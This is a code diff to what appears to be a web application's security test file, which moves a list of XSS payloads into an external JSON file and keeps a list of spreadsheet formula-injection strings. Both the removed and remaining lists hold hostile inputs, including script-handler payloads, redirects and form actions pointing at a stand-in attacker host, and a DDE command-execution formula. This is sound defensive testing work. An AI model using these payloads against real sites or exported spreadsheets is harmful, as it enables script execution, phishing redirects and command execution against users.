@@ -8,18 +8,10 @@ from html.parser import HTMLParser
 from urllib.parse import quote, urlsplit
 
 from desk_people import DeskTest
+from harness import TEST_DATA
 from server import Browser
 
-XSS = (
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
-    "'><iframe src=javascript:alert(1)>", "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>",
-    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "{{7*7}}", "${7*7}",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\u202etxet\u202c", "<style>@import '//evil.example'</style>", "<form action=//evil.example><input name=csrf>",
-    "' autofocus onfocus=alert(1) x='", "<body onload=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E",
-)
+XSS = json.loads((TEST_DATA / "hostile" / "xss.json").read_text("utf-8"))
 FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "=HYPERLINK(\"//evil.example\")",
             "-2+3+cmd|' /C calc'!A0", "＝1+1")
 PAYLOAD_TAGS = {"script", "img", "svg", "iframe", "base", "meta", "style", "form", "math", "body", "a"}
